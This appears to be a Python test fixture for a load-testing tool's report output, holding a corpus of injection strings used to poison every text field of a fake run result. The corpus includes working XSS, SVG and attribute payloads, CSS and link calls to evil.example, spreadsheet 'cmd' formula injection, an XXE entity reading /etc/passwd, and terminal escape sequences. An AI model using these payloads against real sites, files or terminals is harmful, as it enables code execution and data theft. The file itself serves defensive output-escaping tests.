"""Texts that want to be more than text, and a run in which every text that is not ours is one of them."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from functools import cache

from msgspec.structs import replace
from support_results import make_result, with_points

from loadspec.results.items import PoolItem
from loadspec.results.model import CheckSample, EndpointInfo, Event, PoolStats, RunResult

OWNED = "document.title='owned';window.owned=1;alert(1)"
"""What each script of the corpus does: a page that it came alive in can be told."""

CORPUS: Mapping[str, Sequence[str]] = {
    "script": (
        f"<script>{OWNED}</script>",
        f"<ScRiPt\n>{OWNED}</sCrIpT >",
        f"</title></svg></style><script>{OWNED}</script>",
        f"<<script>{OWNED}//<</script>",
        f"javascript:{OWNED}",
    ),
    "attribute": (
        f'"><img src=x onerror="{OWNED}">',
        f"' autofocus onfocus='{OWNED}' x='",
        f'" onmouseover="{OWNED}" style="position:fixed;inset:0" x="',
        f"`onclick={OWNED}`",
        f'<details open ontoggle="{OWNED}">',
        '<a href="https://evil.example/" ping="https://evil.example/">x</a>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<base href="https://evil.example/"><form action="https://evil.example/"><input autofocus>',
        f'<iframe srcdoc="<script>parent.{OWNED}</script>"></iframe><object data="x"></object>',
    ),
    "svg": (
        f"<svg/onload={OWNED}>",
        f"</desc></svg><svg><script>{OWNED}</script></svg>",
        f'<svg><animate onbegin="{OWNED}" attributeName=x dur=1s></svg>',
        f'<svg><use href="data:image/svg+xml,<svg id=x onload={OWNED}>#x"/></svg>',
        f'M0 0"/><script>{OWNED}</script><path d="',
    ),
    "css": (
        "</style><style>*{display:none}</style>",
        "red;background:url(https://evil.example/x)",
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        "@import 'https://evil.example/x.css';",
    ),
    "json in a script": (
        f'</script><script>{OWNED}</script><script type="application/json">{{',
        f"<!--<script>{OWNED}",
        f'"}};{OWNED};{{"',
        "\u2028\u2029]}",
        '{"__proto__":{"owned":1}}',
    ),
    "template": ("{{ 7*7 }}", "{% raw %}${7*7}#{7*7}", "%s %n %(x)s {0.__class__}"),
    "terminal": (
        "\x1b[2J\x1b[H\x1b]0;owned\x07",
        "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07",
        "\x1bP$q\x1b\\\x9b31m\x90",
        "line\rPASS\x08\x08\x7f",
        "two\nlines\n\n# title\n::error::owned",
    ),
    "spreadsheet": (
        '=HYPERLINK("https://evil.example/";"x")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        '",=1+1,"',
    ),
    "bidi": ("\u202etxt.exe\u202c", "\u2066\u2067hidden\u2069", "a\u200bb\ufeffc\u200e", "\U000e0041tag"),
    "markdown": ("| cell | [x](javascript:alert(1)) ![x](http://evil.example/p.png)", "```\n</details>\n@everyone"),
    "xml": ("]]><!--", "]]></system-out><failure/>", "&xxe;<!ENTITY x SYSTEM 'file:///etc/passwd'>"),
    "length": ("x" * 300, "word " * 60),
    "broken text": ("\x00\x0b\x0c", "\ud800 \udfff\ufffe\uffff", " " * 3, "é" * 3),
}
"""By what a text tries to be."""

TEXTS = [text for texts in CORPUS.values() for text in texts]
NAMES = [f"{kind} {number}" for kind, texts in CORPUS.items() for number in range(1, len(texts) + 1)]


@cache
def poisoned(text: str) -> RunResult:
    """A run in which every text that is not ours is `text`; made once, for no reader changes it."""
    result = make_result(3, [EndpointInfo("login", "GET", "/"), EndpointInfo("generate", "GET", text)])
    error = replace(make_result().errors[0], endpoint=text, kind=text, message=text, step=text, count=2)
    sample = {"request": text, "response": text, "at": text}
    check = CheckSample(1.0, 500, text, text, text)
    return replace(
        with_points(result, [replace(p, failed=1, errors={text: 1}) for p in result.points]),
        spec_name=text,
        spec_path=text,
        profile=text,
        command=text,
        target=text,
        sentence=text,
        failure=f"{text} {text}",
        hint=text,
        run_id=text,
        started_at=text,
        tags={text: text},
        endpoint_stats=[replace(s, endpoint=text, method=text, path=text) for s in result.endpoint_stats],
        checks=[replace(c, name=text, endpoint=text, samples=[check]) for c in result.checks[:1]],
        errors=[replace(error, sample=sample, later_samples=[sample])],
        requests=[replace(r, endpoint=text, statuses={text: 1}) for r in result.requests[:1]],
        events=[Event(1.0, text)],
        warnings=[text],
        environment={text: text},
        generator={text: text},
        resolved_spec=text,
        scenarios=[replace(s, name=text, description=text) for s in result.scenarios],
        slowest=[replace(s, endpoint=text, scenario=text, part=text) for s in result.slowest[:2]],
        pools=[
            PoolStats(text, "random", 2, 9, 2, 7, items=[PoolItem(row, text, 9, 1, 3.0, 4.0, 5.0) for row in (1, 2)])
        ],
    )
